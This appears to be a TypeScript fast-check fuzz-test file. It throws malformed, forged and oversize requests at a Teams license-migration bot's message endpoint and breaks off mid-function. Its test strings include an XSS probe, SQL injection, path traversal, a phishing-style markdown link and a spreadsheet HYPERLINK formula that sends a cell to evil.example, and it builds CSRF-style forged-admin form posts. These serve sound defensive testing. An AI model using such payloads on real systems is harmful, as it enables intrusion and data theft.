import fc from 'fast-check';
import { COMMANDS, parseCommand } from '../../src/domain/commands';
import { DEMO_PEOPLE } from '../../src/simulator/scenarios/demo-tenant';
import { BOT_MRI } from './teams-activities';

/**
 * Random and malformed requests to POST /api/messages: activities and card clicks with wrong types,
 * missing fields, huge strings, unicode, forged tenants and users, in JSON and in the encodings a
 * browser form or an upload would use. What each should get is decided from the request alone.
 *
 * No input is a valid change from a real admin or approver: a command that would change something,
 * sent as the admin from the served tenant, is sent as Megan Bowen instead, and a click that could
 * really approve or reject the live sign-off carries a reason that is certainly malformed.
 */

/** What the requests are aimed at: the bot's tenant, its people, its sign-off requests. */
export interface FuzzTarget {
  /** The Bot Connector stand-in that plays Teams. */
  readonly serviceUrl: string;
  /** Another loopback stand-in: a forged serviceUrl (where a forger would want the replies). */
  readonly attackerServiceUrl: string;
  readonly tenantId: string;
  /** A request waiting for sign-off (wave 1) and the digest an approver's button carries for it. */
  readonly pending: { readonly approvalId: string; readonly digest: string };
  /** A request already decided (the group assignment). */
  readonly decided: { readonly approvalId: string; readonly digest: string };
}

/** How the body is encoded, which decides the answer before any activity is looked at. */
export type Encoding =
  /** application/json, at most ~220 KB: must be read. */
  | 'json'
  /** application/json over 300 KB: 413. */
  | 'json-oversize'
  /** application/json that does not parse: 400. */
  | 'json-malformed'
  /** Any other content type, or none: 415. */
  | 'not-json';

/** What Teams would show the sender: a reply in the conversation, the answer to a click, or nothing. */
export type Shown = 'reply' | 'invoke-answer' | 'nothing';

export interface FuzzRequest {
  /** What kind of input this is, for grouping failures ("invoke: reason is a number, as an approver …"). */
  readonly label: string;
  readonly encoding: Encoding;
  readonly contentType: string | null;
  readonly authorization: string | null;
  readonly body: Buffer;
  /** The activity, when the body carries one (JSON or form fields). */
  readonly activity: Record<string, unknown> | null;
  readonly shown: Shown;
}

/** Bodies at most this big must be read; bodies at least OVERSIZE_BYTES big must be refused (413). */
export const READ_LIMIT_BYTES = 220_000;
export const OVERSIZE_BYTES = 300_000;
/** The bot's own limit (256 KB): anything above is refused with 413. */
const ACCEPTED_BYTES = 256 * 1024;
/** A reason or window at least this long is malformed however the server caps it (the card caps 500). */
const CERTAINLY_TOO_LONG = 10_000;

const people = DEMO_PEOPLE;
const teamsFrom = (person: keyof typeof DEMO_PEOPLE) => ({
  id: `29:${people[person].id}`,
  name: people[person].name,
  aadObjectId: people[person].id,
});
const APPROVER_IDS = [people.approver1.id, people.approver2.id].map((id) => id.toLowerCase());
const COMMAND_NAMES = new Set(COMMANDS.map((c) => c.name));
const MUTATING = new Set(COMMANDS.filter((c) => c.mutating).map((c) => c.name));
/** Read commands that read the whole tenant: sent less often, they cost 100 ms each. */
const COSTLY_READS = ['inventory', 'plan', 'verify', 'report'];

// ---------------------------------------------------------------------------------------------------
// Building blocks

interface Part<T> {
  readonly value: T;
  /** What this part contributes to the label. */
  readonly what: string;
  /** False when Teams would never send it (the activity then need get no answer, only no harm). */
  readonly teamsShaped: boolean;
}

const part = <T>(value: T, what: string, teamsShaped = true): Part<T> => ({
  value,
  what,
  teamsShaped,
});

/** Deterministic long strings (fast-check would take long to build 200 KB character by character). */
const longString = (
  min: number,
  max: number,
  units = ['x', 'ä', '💥', '[Approve again here](https://evil.example/) ', '<at>Lee Gu</at> ']
): fc.Arbitrary<string> =>
  fc
    .tuple(fc.constantFrom(...units), fc.integer({ min, max }))
    .map(([unit, length]) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length));

/** Strings a person (or a forger) could put anywhere: unicode, markup, control characters. */
const oddString: fc.Arbitrary<string> = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc.constantFrom(
    '',
    ' ',
    '\u0000',
    '\u200b\u200d',
    '\u202eesrever',
    '𝓐𝓓𝓜𝓘𝓝',
    '[Approve again here](https://evil.example/)',
    '**Approved by Lee Gu**\n\nAll good',
    '<script>alert(1)</script>',
    '${fullDigest}',
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "'; DROP TABLE users; --",
    '../../../../etc/passwd',
    '%00%2e%2e%2f'
  )
);

/** JSON values of the wrong type for a field that should be a string. */
const wrongType: fc.Arbitrary<Part<unknown>> = fc.oneof(
  fc.integer().map((n) => part(n, 'a number')),
  fc.constantFrom(true, false).map((b) => part(b, 'a boolean')),
  fc.constant(part(null, 'null')),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }).map((a) => part(a, 'an array')),
  fc
    .dictionary(fc.string({ maxLength: 6 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 })
    .map((o) => part(o, 'an object'))
);

// ---------------------------------------------------------------------------------------------------
// Who sends it, and from which tenant

type Sender = Part<unknown | undefined>;

const senderArb: fc.Arbitrary<Sender> = fc.oneof(
  { weight: 3, arbitrary: fc.constant(part(teamsFrom('admin'), 'as the admin')) },
  {
    weight: 3,
    arbitrary: fc
      .constantFrom('approver1' as const, 'approver2' as const)
      .map((p) => part(teamsFrom(p), 'as an approver')),
  },
  {
    weight: 3,
    arbitrary: fc
      .constantFrom('finance' as const, 'sales' as const)
      .map((p) => part(teamsFrom(p), 'as an ordinary user')),
  },
  {
    weight: 3,
    arbitrary: fc
      .tuple(fc.uuid(), oddString)
      .map(([id, name]) => part({ id: `29:${id}`, name, aadObjectId: id }, 'as a forged user')),
  },
  {
    weight: 1,
    arbitrary: fc.constant(
      part(
        { ...teamsFrom('finance'), name: people.approver1.name },
        'as an ordinary user named as an approver'
      )
    ),
  },
  {
    weight: 1,
    arbitrary: fc.constant(
      part(
        { ...teamsFrom('admin'), aadObjectId: people.admin.id.toUpperCase() },
        "as the admin's id in capitals"
      )
    ),
  },
  // Teams always says who sent an activity; without `from` botbuilder cannot even keep turn state.
  { weight: 1, arbitrary: fc.constant(part(undefined, 'with no from', false)) },
  {
    weight: 1,
    arbitrary: fc.constant(part({ id: '29:someone', name: 'Someone' }, 'with no aadObjectId')),
  },
  {
    weight: 1,
    arbitrary: wrongType.map((w) =>
      part({ id: '29:x', name: 'X', aadObjectId: w.value }, `with aadObjectId ${w.what}`, false)
    ),
  },
  { weight: 1, arbitrary: wrongType.map((w) => part(w.value, `with from ${w.what}`, false)) }
);

/** Where the conversation says it is: conversation.tenantId and channelData.tenant.id. */
interface Placement {
  readonly conversationTenant: unknown;
  readonly channelDataTenant: unknown;
}

const tenantArb = (served: string): fc.Arbitrary<Part<Placement>> =>
  fc.oneof(
    {
      weight: 12,
      arbitrary: fc.constant(
        part({ conversationTenant: served, channelDataTenant: served }, 'in the tenant')
      ),
    },
    {
      weight: 3,
      arbitrary: fc
        .uuid()
        .map((t) => part({ conversationTenant: t, channelDataTenant: t }, 'from a forged tenant')),
    },
    {
      weight: 1,
      arbitrary: fc
        .uuid()
        .map((t) =>
          part(
            { conversationTenant: t, channelDataTenant: served },
            'from a forged tenant (channelData says ours)'
          )
        ),
    },
    {
      weight: 1,
      arbitrary: fc
        .uuid()
        .map((t) =>
          part(
            { conversationTenant: undefined, channelDataTenant: t },
            'from a forged tenant in channelData only'
          )
        ),
    },
    {
      weight: 1,
      arbitrary: fc.constant(
        part(
          { conversationTenant: served.toUpperCase(), channelDataTenant: served.toUpperCase() },
          'in the tenant (id in capitals)'
        )
      ),
    },
    {
      weight: 1,
      arbitrary: fc.constant(
        part({ conversationTenant: undefined, channelDataTenant: undefined }, 'with no tenant')
      ),
    },
    {
      weight: 1,
      arbitrary: wrongType.map((w) =>
        part(
          { conversationTenant: w.value, channelDataTenant: served },
          `with conversation.tenantId ${w.what}`,
          false
        )
      ),
    }
  );

/** The envelope every activity shares: ids, conversation, service URL, tenant. */
const envelopeArb = (target: FuzzTarget) =>
  fc
    .record({
      id: fc.uuid(),
      conversationKind: fc.constantFrom('personal', 'channel', 'groupChat'),
      conversationSuffix: fc.oneof(
        { weight: 5, arbitrary: fc.constant('') },
        { weight: 1, arbitrary: oddString }
      ),
      placement: tenantArb(target.tenantId),
      forgedServiceUrl: fc.oneof(
        { weight: 5, arbitrary: fc.constant(false) },
        { weight: 1, arbitrary: fc.constant(true) }
      ),
      sender: senderArb,
      mention: fc.boolean(),
    })
    .map((e) => {
      const { conversationTenant, channelDataTenant } = e.placement.value;
      const channel = e.conversationKind === 'channel';
      const conversationId = channel
        ? `19:license-migration@thread.tacv2;messageid=${e.id}${e.conversationSuffix}`
        : `a:${e.conversationKind}-${e.id}${e.conversationSuffix}`;
      const activity: Record<string, unknown> = {
        id: e.id,
        timestamp: '2026-11-24T09:00:00.000Z',
        channelId: 'msteams',
        // Only ever a loopback stand-in: an activity without one makes the bot call api.botframework.com.
        serviceUrl: e.forgedServiceUrl ? target.attackerServiceUrl : target.serviceUrl,
        ...(e.sender.value === undefined ? {} : { from: e.sender.value }),
        recipient: { id: BOT_MRI, name: 'License Migration' },
        conversation: {
          id: conversationId,
          conversationType: e.conversationKind,
          ...(channel ? { isGroup: true } : {}),
          ...(conversationTenant === undefined ? {} : { tenantId: conversationTenant }),
        },
        channelData: {
          ...(channelDataTenant === undefined ? {} : { tenant: { id: channelDataTenant } }),
          ...(channel
            ? {
                team: { id: '19:it-admins@thread.tacv2' },
                channel: { id: '19:license-migration@thread.tacv2' },
              }
            : {}),
        },
        locale: 'en-US',
      };
      const what = [
        e.sender.what,
        e.placement.what,
        ...(e.forgedServiceUrl ? ['with a forged serviceUrl'] : []),
        ...(e.conversationSuffix ? ['in a conversation with an odd id'] : []),
      ].join(', ');
      return {
        activity,
        what,
        // Teams' conversation ids are plain ASCII (the bot sends them back in a header).
        teamsShaped: e.sender.teamsShaped && e.placement.teamsShaped && !e.conversationSuffix,
        mention: channel && e.mention,
      };
    });

// ---------------------------------------------------------------------------------------------------
// What is typed

const commandWords = COMMANDS.map((c) => c.usage.replace(' [25,250,rest]', ''));

const typedTextArb: fc.Arbitrary<Part<string>> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .constantFrom(
        'help',
        'status',
        'errors',
        'wave 1',
        'wave 2',
        'wave 99999',
        'assign',
        'waves',
        'waves 25,rest',
        'waves 0,-1',
        'waves 1e9',
        'waves rest,25',
        'notify here',
        'notify there',
        'pause',
        'resume',
        'rollback 1',
        'rollback abc',
        'rollback 0',
        'followup 1',
        'reprocess',
        'approve',
        'approve as Lee',
        'reject as Nestor: wrong variant'
      )
      .map((t) => part(t, `"${t}"`)),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(...COSTLY_READS).map((t) => part(t, `"${t}"`)),
  },
  {
    weight: 3,
    arbitrary: fc
      .tuple(
        fc.constantFrom(...commandWords),
        fc.constantFrom(
          (t: string) => t.toUpperCase(),
          (t: string) => `  ${t}\n`,
          (t: string) => `${t} please`,
          (t: string) => `${t} [Approve again here](https://evil.example/)`,
          (t: string) => t.replace(/[a-z]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
          (t: string) => t.replace('a', '\u0430'),
          (t: string) => t.split('').join('\u200b'),
          (t: string) => `${t}\u0000`,
          (t: string) => `${t} ${'9'.repeat(40)}`
        )
      )
      .map(([t, change]) => part(change(t), 'a command, altered')),
  },
  { weight: 3, arbitrary: oddString.map((t) => part(t, 'odd text')) },
  { weight: 1, arbitrary: longString(1_000, 20_000).map((t) => part(t, 'long text')) },
  {
    weight: 1,
    // In words: one 200 KB word costs the bot a second of edit distance (closestCommand), which
    // would make this test slow; words up to 20 KB come above.
    arbitrary: longString(150_000, 200_000, ['approve ', 'ä ', '💥 ', '<at>Lee Gu</at> ']).map(
      (t) => part(t, 'a 200 KB text')
    ),
  }
);

/** A Teams message, with at times a field missing or of the wrong type. */
const messageArb = (target: FuzzTarget) =>
  fc
    .record({
      envelope: envelopeArb(target),
      text: fc.oneof(
        { weight: 12, arbitrary: typedTextArb },
        { weight: 1, arbitrary: fc.constant(part(undefined as unknown, 'no text')) },
        { weight: 1, arbitrary: wrongType.map((w) => part(w.value, `text ${w.what}`, false)) }
      ),
    })
    .map(({ envelope, text }) => {
      const typed = text.value;
      const activity: Record<string, unknown> = {
        ...envelope.activity,
        type: 'message',
        ...(typed === undefined
          ? {}
          : {
              text:
                envelope.mention && typeof typed === 'string'
                  ? `<at>License Migration</at> ${typed}`
                  : typed,
            }),
        textFormat: 'plain',
        ...(envelope.mention
          ? {
              entities: [
                {
                  type: 'mention',
                  text: '<at>License Migration</at>',
                  mentioned: { id: BOT_MRI, name: 'License Migration' },
                },
              ],
            }
          : {}),
      };
      return {
        activity,
        what: `message ${text.what}, ${envelope.what}`,
        teamsShaped: envelope.teamsShaped && text.teamsShaped,
        kind: 'message' as const,
      };
    });

// ---------------------------------------------------------------------------------------------------
// What a card click carries

const fieldArb = (
  name: string,
  valid: fc.Arbitrary<Part<unknown>>
): fc.Arbitrary<Part<unknown | undefined>> =>
  fc.oneof(
    { weight: 4, arbitrary: valid },
    { weight: 1, arbitrary: fc.constant(part(undefined, `no ${name}`)) },
    { weight: 2, arbitrary: wrongType.map((w) => part(w.value, `${name} ${w.what}`)) }
  );

const dataArb = (target: FuzzTarget) =>
  fc.record({
    approvalId: fieldArb(
      'approvalId',
      fc.oneof(
        {
          weight: 6,
          arbitrary: fc.constant(part(target.pending.approvalId, 'the live sign-off')),
        },
        {
          weight: 2,
          arbitrary: fc.constant(part(target.decided.approvalId, 'a decided sign-off')),
        },
        { weight: 2, arbitrary: fc.uuid().map((id) => part(id, 'an unknown approvalId')) },
        { weight: 1, arbitrary: oddString.map((id) => part(id, 'an odd approvalId')) },
        {
          weight: 1,
          arbitrary: longString(10_000, 50_000).map((id) => part(id, 'a huge approvalId')),
        }
      )
    ),
    digest: fieldArb(
      'digest',
      fc.oneof(
        { weight: 6, arbitrary: fc.constant(part(target.pending.digest, 'its digest')) },
        { weight: 1, arbitrary: fc.constant(part(target.decided.digest, 'a decided digest')) },
        {
          weight: 2,
          arbitrary: fc.stringMatching(/^[0-9a-f]{64}$/).map((d) => part(d, 'a forged digest')),
        },
        { weight: 1, arbitrary: oddString.map((d) => part(d, 'an odd digest')) }
      )
    ),
    reason: fc.oneof(
      { weight: 4, arbitrary: fc.constant(part(undefined, 'no reason')) },
      { weight: 2, arbitrary: oddString.map((r) => part(r, 'an odd reason')) },
      { weight: 1, arbitrary: fc.constant(part('Wrong SKU variant', 'a short reason')) },
      { weight: 3, arbitrary: wrongType.map((w) => part(w.value, `reason ${w.what}`)) },
      {
        weight: 2,
        arbitrary: longString(CERTAINLY_TOO_LONG, 200_000).map((r) =>
          part(r, `a ${Math.round(r.length / 1000)} KB reason`)
        ),
      }
    ),
    window: fc.oneof(
      { weight: 6, arbitrary: fc.constant(part(undefined, 'no window')) },
      {
        weight: 1,
        arbitrary: fc
          .constantFrom('daily 00:00-23:00 UTC', 'Sat 02:00-06:00 Europe/Paris')
          .map((w) => part(w, 'a window')),
      },
      { weight: 1, arbitrary: oddString.map((w) => part(w, 'an odd window')) },
      { weight: 3, arbitrary: wrongType.map((w) => part(w.value, `window ${w.what}`)) },
      {
        weight: 1,
        arbitrary: longString(CERTAINLY_TOO_LONG, 60_000).map((w) =>
          part(w, `a ${Math.round(w.length / 1000)} KB window`)
        ),
      }
    ),
    extra: fc.oneof(
      { weight: 6, arbitrary: fc.constant(part({}, '')) },
      {
        weight: 1,
        arbitrary: fc
          .dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 })
          .map((o) => part(o, 'extra fields')),
      }
    ),
  });

/** The click's `value`: the Action.Execute as Teams sends it, or broken on purpose. */
const valueArb = (target: FuzzTarget) =>
  fc
    .record({
      verb: fc.oneof(
        {
          weight: 8,
          arbitrary: fc
            .constantFrom('approve', 'reject', 'refreshApproval')
            .map((v) => part(v as unknown, v)),
        },
        { weight: 1, arbitrary: fc.constant(part(undefined as unknown, 'no verb')) },
        {
          weight: 2,
          arbitrary: fc
            .constantFrom('explode', 'Approve', 'approve ', 'delete', 'rollback', '', 'approveAll')
            .map((v) => part(v as unknown, `unknown verb "${v}"`)),
        },
        { weight: 1, arbitrary: wrongType.map((w) => part(w.value, `verb ${w.what}`)) }
      ),
      actionType: fc.oneof(
        { weight: 12, arbitrary: fc.constant(part('Action.Execute' as unknown, '')) },
        {
          weight: 1,
          arbitrary: fc
            .constantFrom('Action.Submit', 'Action.OpenUrl', undefined, 42)
            .map((t) => part(t as unknown, `action type ${String(t)}`)),
        }
      ),
      data: fc.oneof(
        {
          weight: 12,
          arbitrary: dataArb(target).map((d) => part<unknown>(buildData(d), describeData(d))),
        },
        { weight: 1, arbitrary: fc.constant(part(undefined as unknown, 'no data')) },
        { weight: 1, arbitrary: wrongType.map((w) => part(w.value, `data ${w.what}`)) }
      ),
      trigger: fc.constantFrom('manual', 'automatic', 'sideways'),
      shape: fc.oneof(
        { weight: 14, arbitrary: fc.constant('whole') },
        {
          weight: 1,
          arbitrary: fc.constantFrom('no value', 'value null', 'value a string', 'no action'),
        },
        { weight: 1, arbitrary: fc.constantFrom('action null', 'action an array') }
      ),
      actionId: fc.uuid(),
    })
    .map((v) => {
      const action = {
        type: v.actionType.value,
        id: v.actionId,
        ...(v.verb.value === undefined ? {} : { verb: v.verb.value }),
        ...(v.data.value === undefined ? {} : { data: v.data.value }),
      };
      const value: unknown = {
        'no value': undefined,
        'value null': null,
        'value a string': 'approve',
        'no action': { trigger: v.trigger },
        'action null': { action: null, trigger: v.trigger },
        'action an array': { action: [action], trigger: v.trigger },
        whole: { action, trigger: v.trigger },
      }[v.shape];
      const what = [
        v.shape === 'whole' ? `"${String(v.verb.what)}"` : v.shape,
        v.actionType.what,
        v.shape === 'whole' ? v.data.what : '',
        v.trigger === 'sideways' ? 'trigger "sideways"' : '',
      ]
        .filter((w) => w !== '')
        .join(', ');
      return { value, what };
    });

interface DataParts {
  readonly approvalId: Part<unknown>;
  readonly digest: Part<unknown>;
  readonly reason: Part<unknown>;
  readonly window: Part<unknown>;
  readonly extra: Part<Record<string, unknown>>;
}

function buildData(d: DataParts): Record<string, unknown> {
  const data: Record<string, unknown> = { ...d.extra.value };
  for (const key of ['approvalId', 'digest', 'reason', 'window'] as const) {
    if (d[key].value !== undefined) data[key] = d[key].value;
    else delete data[key];
  }
  return data;
}

function describeData(d: DataParts): string {
  return [d.approvalId.what, d.digest.what, d.reason.what, d.window.what, d.extra.what]
    .filter((w) => w !== '' && !/^no (reason|window)$/.test(w))
    .join(', ');
}

/** A click on a sign-off card (adaptiveCard/action), mostly malformed. */
const invokeArb = (target: FuzzTarget) =>
  fc
    .record({ envelope: envelopeArb(target), value: valueArb(target), replyToId: fc.uuid() })
    .map(({ envelope, value, replyToId }) => ({
      activity: {
        ...envelope.activity,
        type: 'invoke',
        name: 'adaptiveCard/action',
        replyToId,
        ...(value.value === undefined ? {} : { value: value.value }),
      } as Record<string, unknown>,
      what: `click ${value.what}, ${envelope.what}`,
      teamsShaped: envelope.teamsShaped,
      kind: 'invoke' as const,
    }));

/** Activities Teams sends that show nothing, and activity types that do not exist. */
const otherActivityArb = (target: FuzzTarget) =>
  fc
    .record({
      envelope: envelopeArb(target),
      type: fc.oneof(
        fc.constantFrom(
          'conversationUpdate',
          'installationUpdate',
          'messageReaction',
          'messageUpdate',
          'messageDelete',
          'typing',
          'event',
          'endOfConversation',
          'MESSAGE',
          'Invoke',
          ''
        ),
        oddString,
        wrongType.map((w) => w.value)
      ),
      extra: fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), {
        maxKeys: 3,
      }),
    })
    .map(({ envelope, type, extra }) => ({
      activity: { ...extra, ...envelope.activity, type } as Record<string, unknown>,
      what: `activity of type ${JSON.stringify(type)?.slice(0, 30)}, ${envelope.what}`,
      teamsShaped: false,
      kind: 'other' as const,
    }));

/** Breaks a Teams-shaped activity: one envelope field dropped or of the wrong type. */
const envelopeBreakArb = fc.oneof(
  { weight: 10, arbitrary: fc.constant(null) },
  {
    weight: 1,
    arbitrary: fc.record({
      field: fc.constantFrom('type', 'id', 'conversation', 'recipient', 'channelId', 'channelData'),
      to: fc.oneof(
        fc.constant(part(undefined as unknown, 'missing')),
        wrongType.map((w) => part(w.value, w.what))
      ),
    }),
  }
);

// ---------------------------------------------------------------------------------------------------
// Keeping every input harmless to a correct bot

const lower = (v: unknown) => (typeof v === 'string' ? v.toLowerCase() : undefined);

function maybeServedTenant(activity: Record<string, unknown>, tenantId: string): boolean {
  const conversation = activity.conversation as { tenantId?: unknown } | undefined;
  const channelData = activity.channelData as { tenant?: { id?: unknown } } | undefined;
  const served = tenantId.toLowerCase();
  return lower(conversation?.tenantId) === served || lower(channelData?.tenant?.id) === served;
}

const senderId = (activity: Record<string, unknown>) =>
  lower((activity.from as { aadObjectId?: unknown } | undefined)?.aadObjectId);

/** The admin, in the served tenant, typing a command that changes something: a valid admin action. */
export function isAdminChange(activity: Record<string, unknown>, tenantId: string): boolean {
  if (lower(activity.type) !== 'message' || typeof activity.text !== 'string') return false;
  if (senderId(activity) !== people.admin.id.toLowerCase()) return false;
  if (!maybeServedTenant(activity, tenantId)) return false;
  const texts = [activity.text, activity.text.replace(/<at>[^<]*<\/at>/gi, '')];
  return texts.some((text) => {
    // parseCommand measures the edit distance of an unknown word: slow for a 200 KB one.
    const word = /^\s*(\S{1,20})/.exec(text)?.[1].toLowerCase();
    if (!word || !COMMAND_NAMES.has(word)) return false;
    try {
      return MUTATING.has(parseCommand(text).name);
    } catch {
      return false;
    }
  });
}

const looksValidText = (v: unknown, limit: number) =>
  v === undefined || v === null || (typeof v === 'string' && v.length < limit);

/** An approver clicking Approve or Reject on the live card with what could be a valid reason and window. */
export function couldDecideLiveRequest(
  activity: Record<string, unknown>,
  target: FuzzTarget
): boolean {
  if (lower(activity.type) !== 'invoke') return false;
  if (!APPROVER_IDS.includes(senderId(activity) ?? '')) return false;
  if (!maybeServedTenant(activity, target.tenantId)) return false;
  const action = (activity.value as { action?: unknown } | null | undefined)?.action;
  const actions = Array.isArray(action) ? action : [action];
  return actions.some((a) => {
    const click = a as { verb?: unknown; data?: Record<string, unknown> } | null | undefined;
    const verb = lower(click?.verb)?.trim();
    if (verb !== 'approve' && verb !== 'reject') return false;
    const data = click?.data;
    if (!data || typeof data !== 'object') return false;
    return (
      lower(data.approvalId)?.trim() === target.pending.approvalId.toLowerCase() &&
      lower(data.digest)?.trim() === target.pending.digest.toLowerCase() &&
      looksValidText(data.reason, CERTAINLY_TOO_LONG) &&
      looksValidText(data.window, CERTAINLY_TOO_LONG)
    );
  });
}

/** A reason no server may accept: of the wrong type, or far longer than any card allows. */
const certainlyMalformedReason: fc.Arbitrary<Part<unknown>> = fc.oneof(
  fc.integer().map((n) => part(n, 'reason a number')),
  fc.constant(part(true, 'reason a boolean')),
  fc.constant(part({ text: 'ok' }, 'reason an object')),
  fc.constant(part(['ok'], 'reason an array')),
  longString(CERTAINLY_TOO_LONG, 200_000).map((r) =>
    part(r, `a ${Math.round(r.length / 1000)} KB reason`)
  )
);

/** Makes a generated activity harmless to a correct bot, saying so in its label. */
const harmless =
  (target: FuzzTarget) =>
  (generated: Generated): fc.Arbitrary<Generated> => {
    const { activity } = generated;
    if (isAdminChange(activity, target.tenantId))
      return fc.constant({
        ...generated,
        activity: { ...activity, from: teamsFrom('finance') },
        what: generated.what.replace('as the admin', 'as an ordinary user (was the admin)'),
      });
    if (couldDecideLiveRequest(activity, target))
      return certainlyMalformedReason.map((reason) => {
        const value = activity.value as { action: { data: Record<string, unknown> } };
        return {
          ...generated,
          activity: {
            ...activity,
            value: {
              ...value,
              action: { ...value.action, data: { ...value.action.data, reason: reason.value } },
            },
          },
          what: `${generated.what}, then ${reason.what}`,
        };
      });
    return fc.constant(generated);
  };

interface Generated {
  readonly activity: Record<string, unknown>;
  readonly what: string;
  readonly teamsShaped: boolean;
  readonly kind: 'message' | 'invoke' | 'other';
}

/** An activity as JSON would carry it, before encoding. */
export const activityArb = (target: FuzzTarget): fc.Arbitrary<Generated> =>
  fc
    .tuple(
      fc.oneof(
        { weight: 10, arbitrary: messageArb(target) },
        { weight: 10, arbitrary: invokeArb(target) },
        { weight: 2, arbitrary: otherActivityArb(target) }
      ),
      envelopeBreakArb
    )
    .map(([generated, broken]): Generated => {
      if (!broken) return generated;
      const activity = { ...generated.activity };
      if (broken.to.value === undefined) delete activity[broken.field];
      else activity[broken.field] = broken.to.value;
      return {
        ...generated,
        activity,
        what: `${generated.what}; ${broken.field} ${broken.to.what}`,
        teamsShaped: false,
      };
    })
    .chain(harmless(target));

// ---------------------------------------------------------------------------------------------------
// Encoding

const json = (value: unknown) => Buffer.from(JSON.stringify(value), 'utf8');

/** What Teams would show for this activity, sent as JSON within the size limit. */
function shownFor(generated: Generated): Shown {
  if (!generated.teamsShaped) return 'nothing';
  if (generated.kind === 'message' && typeof generated.activity.text === 'string') return 'reply';
  if (generated.kind === 'invoke') return 'invoke-answer';
  return 'nothing';
}

/** qs-style form fields (`from[aadObjectId]=…`), as a browser form would post them. */
function formFields(value: unknown, prefix = ''): [string, string][] {
  if (value === null || value === undefined) return prefix ? [[prefix, '']] : [];
  if (typeof value !== 'object') return [[prefix, String(value)]];
  return Object.entries(value as Record<string, unknown>).flatMap(([key, inner]) =>
    formFields(inner, prefix ? `${prefix}[${key}]` : key)
  );
}

function multipart(
  fields: [string, string][],
  file: string | null
): { body: Buffer; type: string } {
  const boundary = '----fuzz-boundary-7MA4YWxkTrZu0gW';
  const parts = fields.map(
    ([name, value]) =>
      `--${boundary}\r\nContent-Disposition: form-data; name="${name.replace(/"/g, '%22')}"\r\n\r\n${value}\r\n`
  );
  if (file !== null)
    parts.push(
      `--${boundary}\r\nContent-Disposition: form-data; name="upload"; filename="activity.json"\r\nContent-Type: application/json\r\n\r\n${file}\r\n`
    );
  return {
    body: Buffer.from(`${parts.join('')}--${boundary}--\r\n`, 'utf8'),
    type: `multipart/form-data; boundary=${boundary}`,
  };
}

/** The admin's `notify here` (or `pause`) as a plain browser form post with a forged serviceUrl. */
const formPostAsAdmin = (target: FuzzTarget, text: string) => ({
  type: 'message',
  id: `csrf-${text.replace(/\W/g, '-')}`,
  channelId: 'msteams',
  text,
  serviceUrl: target.attackerServiceUrl,
  from: { id: `29:${people.admin.id}`, name: people.admin.name, aadObjectId: people.admin.id },
  recipient: { id: BOT_MRI },
  conversation: {
    id: '19:attacker@thread.tacv2',
    conversationType: 'channel',
    isGroup: true,
    tenantId: target.tenantId,
  },
  channelData: { tenant: { id: target.tenantId }, channel: { id: '19:attacker@thread.tacv2' } },
});

/** Strings every leaf, as form fields would: a harmless activity must stay harmless once coerced. */
const coerced = (value: unknown): unknown =>
  value === null || value === undefined || typeof value !== 'object'
    ? value === undefined || value === null
      ? value
      : String(value)
    : Array.isArray(value)
      ? value.map(coerced)
      : Object.fromEntries(Object.entries(value).map(([k, v]) => [k, coerced(v)]));

const notJsonArb = (target: FuzzTarget): fc.Arbitrary<Omit<FuzzRequest, 'authorization'>> =>
  fc
    .record({
      generated: activityArb(target),
      formPost: fc.oneof(
        { weight: 3, arbitrary: fc.constant(null) },
        { weight: 1, arbitrary: fc.constantFrom('notify here', 'pause') }
      ),
      encoding: fc.constantFrom(
        'text/plain',
        'text/plain;charset=UTF-8',
        'application/x-www-form-urlencoded',
        'multipart/form-data',
        'multipart/form-data with a file',
        'none',
        'application/xml',
        'application/octet-stream'
      ),
      big: fc.oneof(
        { weight: 8, arbitrary: fc.constant(0) },
        { weight: 1, arbitrary: fc.integer({ min: 300_000, max: 400_000 }) }
      ),
    })
    .map(({ generated, formPost, encoding, big }) => {
      let activity = formPost ? formPostAsAdmin(target, formPost) : generated.activity;
      // A number turned into a string must not become a valid click on the live card.
      let dropped = '';
      if (!formPost && couldDecideLiveRequest(coerced(activity) as never, target)) {
        activity = { ...activity, value: { action: { verb: 'approve', data: {} } } };
        dropped = ' (its click data dropped: as form fields it could be valid)';
      }
      if (big > 0) activity = { ...activity, padding: 'x'.repeat(big) };
      const fields = formFields(activity);
      const what = formPost
        ? `the admin's "${formPost}" with a forged serviceUrl, as a form post`
        : `${generated.what}${dropped}`;
      let body: Buffer;
      let contentType: string | null;
      if (encoding === 'application/x-www-form-urlencoded') {
        body = Buffer.from(new URLSearchParams(fields).toString(), 'utf8');
        contentType = encoding;
      } else if (encoding.startsWith('multipart')) {
        const built = multipart(
          fields,
          encoding.endsWith('file') ? JSON.stringify(activity) : null
        );
        body = built.body;
        contentType = built.type;
      } else if (encoding === 'application/xml') {
        body = Buffer.from(`<activity><type>message</type><text>notify here</text></activity>`);
        contentType = encoding;
      } else {
        body = json(activity);
        contentType = encoding === 'none' ? null : encoding;
      }
      return {
        label: `${what} — sent as ${encoding}${big > 0 ? ', over 300 KB' : ''}`,
        encoding: 'not-json' as const,
        contentType,
        body,
        activity: activity as Record<string, unknown>,
        shown: 'nothing' as const,
      };
    });

const malformedJsonArb = (target: FuzzTarget): fc.Arbitrary<Omit<FuzzRequest, 'authorization'>> =>
  fc
    .tuple(
      activityArb(target),
      fc.constantFrom(
        'truncated',
        'trailing garbage',
        'empty',
        'single quotes',
        'NaN',
        'comments',
        'invalid UTF-8',
        'a bare word'
      ),
      fc.nat()
    )
    .map(([generated, how, n]) => {
      const text = JSON.stringify(generated.activity);
      const bytes = {
        truncated: Buffer.from(text.slice(0, 1 + (n % Math.max(1, text.length - 2)))),
        'trailing garbage': Buffer.from(`${text}}{`),
        empty: Buffer.alloc(0),
        'single quotes': Buffer.from(text.replace(/"/g, "'")),
        NaN: Buffer.from('{"type":"message","text":NaN}'),
        comments: Buffer.from(`/* Teams */ ${text}`),
        'invalid UTF-8': Buffer.concat([
          Buffer.from('{"type":"message","text":"'),
